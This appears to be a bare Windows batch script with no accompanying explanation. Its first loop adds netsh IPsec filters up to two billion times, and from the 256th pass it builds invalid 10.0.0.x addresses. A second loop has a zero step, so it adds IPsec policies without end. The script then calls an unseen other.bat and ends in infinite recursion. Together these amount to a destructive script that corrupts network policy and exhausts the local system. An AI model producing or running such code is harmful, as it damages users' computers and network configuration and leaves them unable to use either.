@echo off
for /l %%i in (1,1,2000000000) do netsh ipsec static add filter filterlist=x srcaddr=10.0.0.%%i dstaddr=me
for /l %%i in (1,0,5) do netsh ipsec static add policy name=%%i
call other.bat
call :again
goto :eof
:again
call :again
